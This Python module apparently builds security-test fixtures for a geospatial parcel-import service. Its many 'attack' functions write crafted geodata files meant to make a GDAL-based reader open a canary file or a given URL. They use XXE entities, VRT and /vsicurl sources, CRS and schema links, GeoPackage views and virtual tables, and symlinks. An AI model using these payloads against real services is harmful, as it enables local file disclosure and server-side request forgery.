"""Files that try to make a reader open another file or an address: one function a trick, by format and place."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from contextlib import closing
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

import geopandas as gpd
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import shapely

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

BOX = [[116.68, 23.35], [116.681, 23.35], [116.681, 23.351], [116.68, 23.351], [116.68, 23.35]]
RING = " ".join(f"{east},{north}" for east, north in BOX)
ATTACKS: dict[str, Callable[[Path, str, Path], Path]] = {}
_WKT = "POLYGON((116.68 23.35,116.681 23.35,116.681 23.351,116.68 23.35))"


def attack(function):
    """Add a trick to the list, under its name: format, then place."""
    ATTACKS[function.__name__] = function
    return function


def vrt(source: str) -> str:
    """Return what GDAL takes for a virtual data source wherever it stands."""
    return (
        f"<OGRVRTDataSource><OGRVRTLayer name='p'><SrcDataSource>{source}</SrcDataSource>"
        f"<SrcSQL dialect='SQLITE'>select '{_WKT}' as wkt, * from canary</SrcSQL>"
        "<GeometryField encoding='WKT' field='wkt'/></OGRVRTLayer></OGRVRTDataSource>"
    )


def payloads(url: str, canary: Path) -> list[str]:
    """Return texts that a driver of GDAL's might take for its own."""
    return [
        vrt(f"CSV:{canary}"),
        vrt(f"/vsicurl/{url}.csv"),
        f"<OGRWFSDataSource><URL>{url}</URL></OGRWFSDataSource>",
        json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {canary}"}),
        f"{url}/FeatureServer/0/query?f=json",
        f"/vsicurl/{url}",
    ]


def frame(url: str, canary: Path) -> gpd.GeoDataFrame:
    """Return a parcel a payload."""
    texts = payloads(url, canary)
    boxes = [shapely.box(116.68 + at / 1000, 23.35, 116.681 + at / 1000, 23.351) for at in range(len(texts))]
    return gpd.GeoDataFrame({"DKBH": texts, "DKMC": texts}, geometry=boxes, crs=4326)


def geojson(path: Path, properties: dict[str, object], **members: object) -> Path:
    geometry = {"type": "Polygon", "coordinates": [BOX]} | members.pop("geometry", {})
    feature = {"type": "Feature", "properties": properties, "geometry": geometry}
    path.write_text(
        json.dumps({"type": "FeatureCollection", **members, "features": [feature]}, ensure_ascii=False),
        encoding="utf-8",
    )
    return path


def _in_first_string(number: int):
    def made(folder: Path, url: str, canary: Path) -> Path:
        return geojson(folder / "x.geojson", {"DKBH": payloads(url, canary)[number]})

    return made


for _number in range(6):
    ATTACKS[f"geojson_string_{_number}"] = _in_first_string(_number)


@attack
def geojson_name(folder, url, canary):
    return geojson(folder / "x.geojson", {"DKBH": "1"}, name=vrt(f"CSV:{canary}"))


@attack
def geojson_property_name(folder, url, canary):
    return geojson(folder / "x.geojson", {vrt(f"/vsicurl/{url}.csv"): "1"})


@attack
def geojson_is_a_virtual_source(folder, url, canary):
    path = folder / "x.geojson"
    path.write_text(vrt(f"CSV:{canary}"), encoding="utf-8")
    return path


@attack
def geojson_is_a_pipeline(folder, url, canary):
    path = folder / "x.geojson"
    path.write_text(payloads(url, canary)[3], encoding="utf-8")
    return path


def _crs(folder: Path, member: object, old: str = "", new: str = "", *, inside: bool = False) -> Path:
    path = folder / "x.geojson"
    geojson(path, {"DKBH": "1"}, **({"geometry": {"crs": member}} if inside else {"crs": member}))
    path.write_text(path.read_text("utf-8").replace(old, new), encoding="utf-8")
    return path


def _link(url: str) -> dict[str, object]:
    return {"type": "link", "properties": {"href": url, "type": "ogcwkt"}}


@attack
def geojson_crs_link(folder, url, canary):
    return _crs(folder, _link(url))


@attack
def geojson_crs_link_to_a_file(folder, url, canary):
    return _crs(folder, _link(f"file://{canary}"))


@attack
def geojson_crs_link_in_a_geometry(folder, url, canary):
    return _crs(folder, _link(url), inside=True)


@attack
def geojson_crs_url(folder, url, canary):
    return _crs(folder, {"type": "url", "properties": {"url": url}})


@attack
def geojson_crs_in_capitals(folder, url, canary):
    return _crs(folder, {"TYPE": "LINK", "PROPERTIES": {"HREF": url}}, '"crs"', '"CRS"')


@attack
def geojson_crs_escaped(folder, url, canary):
    return _crs(folder, _link(url), '"crs"', '"\\u0063r\\u0053"')


@attack
def geojson_crs_with_a_zero(folder, url, canary):
    return _crs(folder, _link(url), '"crs"', '"crs\\u0000x"')


@attack
def geojson_crs_type_escaped(folder, url, canary):
    return _crs(folder, _link(url), '"type": "link"', '"typ\\u0065": "l\\u0069nk"')


@attack
def geojson_crs_named_by_an_address(folder, url, canary):
    return _crs(folder, {"type": "name", "properties": {"name": url}})


@attack
def geojson_crs_named_by_a_file(folder, url, canary):
    return _crs(folder, {"type": "name", "properties": {"name": str(canary)}})


@attack
def geojsonl_string(folder, url, canary):
    return _sequence(folder, {"DKBH": vrt(f"CSV:{canary}")}, {})


@attack
def geojsonl_crs(folder, url, canary):
    return _sequence(folder, {"DKBH": "1"}, {"crs": _link(url)})


def _sequence(folder: Path, properties: dict[str, object], geometry: dict[str, object]) -> Path:
    drawn = {"type": "Polygon", "coordinates": [BOX], **geometry}
    line = json.dumps({"type": "Feature", "properties": properties, "geometry": drawn})
    path = folder / "x.geojsonl"
    path.write_text(f"{line}\n{line}\n", encoding="utf-8")
    return path


def _mif(folder: Path, url: str, canary: Path, text: str) -> Path:
    points = "\n".join(f"{east} {north}" for east, north in BOX)
    (folder / "x.mif").write_text(
        f'Version 300\nCharset "Neutral"\nDelimiter ","\n{text}\nCoordSys Earth Projection 1, 104\n'
        f"Columns 1\n  DKBH Char(250)\nData\n\nRegion 1\n  5\n{points}\n",
        encoding="utf-8",
    )
    (folder / "x.mid").write_text(f'"{vrt(f"CSV:{canary}")}"\n', encoding="utf-8")
    return folder / "x.mif"


@attack
def mif_header(folder, url, canary):
    return _mif(folder, url, canary, vrt(f"CSV:{canary}"))


@attack
def mif_header_address(folder, url, canary):
    return _mif(folder, url, canary, vrt(f"/vsicurl/{url}.csv"))


@attack
def mif_values(folder, url, canary):
    return _mif(folder, url, canary, "")


def _tab(folder: Path, url: str, canary: Path, text: str) -> Path:
    frame(url, canary)[["DKBH", "geometry"]].to_file(
        folder / "x.tab", driver="MapInfo File", encoding="UTF-8"
    )
    path = folder / "x.tab"
    path.write_text(path.read_text("utf-8").replace("\n", f"\n{text}\n", 1), encoding="utf-8")
    return path


@attack
def tab_header(folder, url, canary):
    return _tab(folder, url, canary, vrt(f"CSV:{canary}"))


@attack
def tab_view(folder, url, canary):
    _other_table(canary)
    path = folder / "x.tab"
    path.write_text(
        f'!table\n!version 100\nopen table "{canary.with_suffix(".tab")}" Hide\n'
        "create view x as\nSelect word\nFrom canary\n",
        encoding="utf-8",
    )
    return path


@attack
def tab_seamless(folder, url, canary):
    _other_table(canary)
    path = _tab(folder, url, canary, "")
    path.write_text(
        path.read_text("utf-8") + '\nbegin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n',
        encoding="utf-8",
    )
    return path


@attack
def tab_linked(folder, url, canary):
    path = folder / "x.tab"
    path.write_text(
        f'!table\n!version 700\nDefinition Table\n  Type LINKED\n  Fields 0\n  File "{canary}" "{url}"\n',
        encoding="utf-8",
    )
    return path


def _other_table(canary: Path) -> None:
    other = gpd.GeoDataFrame(
        {"word": [canary.read_text().split()[1]]}, geometry=[shapely.box(0, 0, 1, 1)], crs=4326
    )
    other.to_file(canary.with_suffix(".tab"), driver="MapInfo File", encoding="UTF-8")


KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}</Document></kml>'
PLACEMARK = (
    "<Placemark>{inside}<Polygon><outerBoundaryIs><LinearRing><coordinates>" + RING + "</coordinates>"
    "</LinearRing></outerBoundaryIs></Polygon></Placemark>"
)


def _kml(folder: Path, inside: str, before: str = "") -> Path:
    path = folder / "x.kml"
    path.write_text(before + KML.format(inside=inside), encoding="utf-8")
    return path


@attack
def kml_string(folder, url, canary):
    return _kml(folder, PLACEMARK.format(inside=f"<name><![CDATA[{vrt(f'CSV:{canary}')}]]></name>"))


@attack
def kml_instruction(folder, url, canary):
    virtual = vrt(f"/vsicurl/{url}.csv")
    return _kml(folder, PLACEMARK.format(inside=""), f"<?foo a='?><!-- '?>{virtual} -->")


@attack
def kml_comment(folder, url, canary):
    return _kml(folder, PLACEMARK.format(inside=""), f"<!--{vrt(f'CSV:{canary}')}-->")


@attack
def kml_links(folder, url, canary):
    links = "".join(
        f"<NetworkLink><Link><href>{to}</href></Link></NetworkLink><GroundOverlay><Icon><href>{to}</href></Icon>"
        f"</GroundOverlay><Style id='a'><IconStyle><Icon><href>{to}</href></Icon></IconStyle></Style>"
        for to in (url, f"file://{canary}", str(canary))
    )
    inside = f"<styleUrl>{url}#a</styleUrl><ExtendedData><SchemaData schemaUrl='{url}#b'/></ExtendedData>"
    return _kml(folder, links + PLACEMARK.format(inside=inside))


@attack
def kml_entity(folder, url, canary):
    doctype = f'<!DOCTYPE kml [<!ENTITY e SYSTEM "file://{canary}"><!ENTITY f SYSTEM "{url}">]>'
    return _kml(folder, PLACEMARK.format(inside="<name>&e;&f;</name>"), doctype)


@attack
def kmz_holds_a_virtual_source(folder, url, canary):
    return _kmz(folder, f"<!--<Placemark-->{vrt(f'/vsicurl/{url}.csv')}")


@attack
def kmz_links(folder, url, canary):
    link = f"<NetworkLink><Link><href>{url}</href></Link></NetworkLink>"
    return _kmz(folder, KML.format(inside=link + PLACEMARK.format(inside=vrt(f"CSV:{canary}"))))


def _kmz(folder: Path, text: str) -> Path:
    with zipfile.ZipFile(folder / "x.kmz", "w") as archive:
        archive.writestr("doc.kml", text)
    return folder / "x.kmz"


def _gml(folder: Path, *, root: str = "", inside: str = "", srs: str = "EPSG:4326", before: str = "") -> Path:
    path = folder / "x.gml"
    places = " ".join(f"{east} {north}" for east, north in BOX)
    path.write_text(
        f'{before}<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:a="http://a/" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {root}><gml:featureMember><a:P>'
        f'<a:DKBH>1</a:DKBH>{inside}<a:g><gml:Polygon srsName="{srs}"><gml:exterior><gml:LinearRing><gml:posList>'
        f"{places}</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon></a:g></a:P></gml:featureMember>"
        "</wfs:FeatureCollection>",
        encoding="utf-8",
    )
    return path


@attack
def gml_schema(folder, url, canary):
    query = f"{url}?SERVICE=WFS&amp;VERSION=1.1.0&amp;REQUEST=DescribeFeatureType&amp;TYPENAME=a:P"
    return _gml(folder, root=f'xsi:schemaLocation="http://a/ {query}"')


@attack
def gml_schema_file(folder, url, canary):
    return _gml(
        folder, root=f'xsi:schemaLocation="http://a/ {canary}" xsi:noNamespaceSchemaLocation="{canary}"'
    )


@attack
def gml_schema_beside_it(folder, url, canary):
    (folder / "x.xsd").write_text(
        f'<schema xmlns="http://www.w3.org/2001/XMLSchema"><include schemaLocation="{url}"/></schema>'
    )
    (folder / "x.gfs").write_text(
        f"<GMLFeatureClassList><GMLFeatureClass><Name>{url}</Name></GMLFeatureClass></GMLFeatureClassList>"
    )
    return _gml(folder)


@attack
def gml_system_at_an_address(folder, url, canary):
    return _gml(folder, srs=url)


@attack
def gml_system_in_a_file(folder, url, canary):
    return _gml(folder, srs=str(canary))


@attack
def gml_references(folder, url, canary):
    links = "".join(f'<a:q{n} xlink:href="{to}"/>' for n, to in enumerate((url, f"file://{canary}", canary)))
    return _gml(folder, inside=links)


@attack
def gml_instruction(folder, url, canary):
    return _gml(folder, before=f"<?foo a='?><!-- '?>{vrt(f'/vsicurl/{url}.csv')} -->")


@attack
def gml_string(folder, url, canary):
    return _gml(folder, inside=f"<a:m><![CDATA[{vrt(f'CSV:{canary}')}]]></a:m><a:n>{escape(vrt(url))}</a:n>")


@attack
def gml_entity(folder, url, canary):
    doctype = f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{canary}"><!ENTITY f SYSTEM "{url}">]>'
    return _gml(folder, before=doctype, inside="<a:m>&e;&f;</a:m>")


def _written(suffix: str, driver: str, **options: object):
    def made(folder: Path, url: str, canary: Path) -> Path:
        path = folder / f"x.{suffix}"
        frame(url, canary).to_file(path, driver=driver, **options)
        return path

    return made


ATTACKS["fgb_strings"] = _written("fgb", "FlatGeobuf")
ATTACKS["gpkg_strings"] = _written("gpkg", "GPKG")
ATTACKS["gdb_strings"] = _written("gdb", "OpenFileGDB")


def _shapefile(folder: Path, url: str, canary: Path, beside: str, text: str) -> Path:
    frame(url, canary).to_file(folder / "x.shp", encoding="UTF-8")
    (folder / f"x.{beside}").write_text(text, encoding="utf-8")
    return folder / "x.shp"


@attack
def shp_strings(folder, url, canary):
    return _shapefile(folder, url, canary, "cpg", "UTF-8")


@attack
def shp_prj_is_a_virtual_source(folder, url, canary):
    return _shapefile(folder, url, canary, "prj", vrt(f"CSV:{canary}"))


@attack
def shp_prj_is_an_address(folder, url, canary):
    return _shapefile(folder, url, canary, "prj", url)


@attack
def shp_prj_is_a_file(folder, url, canary):
    return _shapefile(folder, url, canary, "prj", f"+init={canary}")


@attack
def shp_prj_names_a_grid(folder, url, canary):
    return _shapefile(
        folder, url, canary, "prj", f"+proj=longlat +ellps=clrk66 +nadgrids={canary},{url} +type=crs"
    )


@attack
def shp_cpg_is_a_file(folder, url, canary):
    return _shapefile(folder, url, canary, "cpg", str(canary))


@attack
def gpkg_view(folder, url, canary):
    path = _written("gpkg", "GPKG")(folder, url, canary)
    with closing(sqlite3.connect(path)) as database:
        database.execute(
            f"create view v as select 1 as fid, ogr_geocode('{url}') as DKBH, "
            f"ogr_datasource_load_layers('{canary}') as DKMC, geom from x"
        )
        database.execute(
            "insert into gpkg_contents (table_name, data_type, srs_id) values ('v', 'features', 4326)"
        )
        database.execute("insert into gpkg_geometry_columns values ('v', 'geom', 'POLYGON', 4326, 0, 0)")
        database.commit()
    return path


@attack
def gpkg_virtual_table(folder, url, canary):
    path = _written("gpkg", "GPKG")(folder, url, canary)
    with closing(sqlite3.connect(path)) as database:
        database.execute("pragma writable_schema = on")
        sql = f"create virtual table v using VirtualOGR('{canary}')"
        database.execute("insert into sqlite_master values ('table', 'v', 'v', 0, ?)", (sql,))
        database.commit()
    return path


@attack
def gpkg_system_at_an_address(folder, url, canary):
    path = _written("gpkg", "GPKG")(folder, url, canary)
    with closing(sqlite3.connect(path)) as database:
        database.execute(
            "update gpkg_spatial_ref_sys set organization = 'none', organization_coordsys_id = 0, definition = ?",
            (url,),
        )
        database.commit()
    return path


@attack
def gdb_holds_others(folder, url, canary):
    path = _written("gdb", "OpenFileGDB")(folder, url, canary)
    (path / "a.vrt").write_text(vrt(f"CSV:{canary}"))
    (path / "canary.csv").write_text(canary.read_text())
    return path


@attack
def gdb_table_is_a_link(folder, url, canary):
    path = _written("gdb", "OpenFileGDB")(folder, url, canary)
    (path / "a00000009.gdbtable").unlink()
    (path / "a00000009.gdbtable").symlink_to(canary)
    return path


@attack
def parquet_strings(folder, url, canary):
    frame(url, canary).to_parquet(folder / "x.parquet")
    return folder / "x.parquet"


def _parquet_in(folder: Path, url: str, canary: Path, crs: str) -> Path:
    path = folder / "x.parquet"
    frame(url, canary).to_parquet(path)
    table = pq.read_table(path)
    geo = json.loads(table.schema.metadata[b"geo"])
    geo["columns"]["geometry"]["crs"] = crs
    pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo)}), path)
    return path


@attack
def parquet_system_at_an_address(folder, url, canary):
    return _parquet_in(folder, url, canary, url)


@attack
def parquet_system_in_a_file(folder, url, canary):
    return _parquet_in(folder, url, canary, f"+init={canary}")


def _arrow(folder: Path, url: str, canary: Path, system: object) -> Path:
    told = pa.table(frame(url, canary).to_arrow(index=False))
    at = told.schema.get_field_index("geometry")
    metadata = {
        "ARROW:extension:name": "geoarrow.wkb",
        "ARROW:extension:metadata": json.dumps({"crs": system}),
    }
    schema = told.schema.set(at, told.schema.field(at).with_metadata(metadata))
    table = pa.Table.from_arrays(told.columns, schema=schema)
    with pa.ipc.new_stream(folder / "x.arrow", schema) as sink:
        sink.write_table(table)
    return folder / "x.arrow"


@attack
def arrow_strings(folder, url, canary):
    return _arrow(folder, url, canary, "EPSG:4326")


@attack
def arrow_system_at_an_address(folder, url, canary):
    return _arrow(folder, url, canary, url)


@attack
def arrow_system_in_a_file(folder, url, canary):
    return _arrow(folder, url, canary, f"+init={canary}")


@attack
def csv_strings(folder, url, canary):
    rows = [f'"{text.replace(chr(34), chr(34) * 2)}","{_WKT}"' for text in payloads(url, canary)]
    (folder / "x.csv").write_text("DKBH,WKT\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return folder / "x.csv"


@attack
def xlsx_strings(folder, url, canary):
    book = openpyxl.Workbook()
    book.active.append(["DKBH", "X", "Y"])
    for text in payloads(url, canary):
        for north, east in ((2583500, 467100), (2583500, 467200), (2583600, 467200)):
            book.active.append([text.lstrip("="), north, east])
    book.save(folder / "x.xlsx")
    return folder / "x.xlsx"


@attack
def txt_strings(folder, url, canary):
    text = vrt(f"CSV:{canary}").replace(",", ";")
    (folder / "x.txt").write_text(
        "[属性描述]\n坐标系=2000国家大地坐标系\n几度分带=3\n带号=39\n[地块坐标]\n"
        f"3,1,{text},{text},面,,,,@\n"
        "J1,1,2583500,467100\nJ2,1,2583500,467200\nJ3,1,2583600,467200\nJ1,1,2583500,467100\n",
        encoding="utf-8",
    )
    return folder / "x.txt"
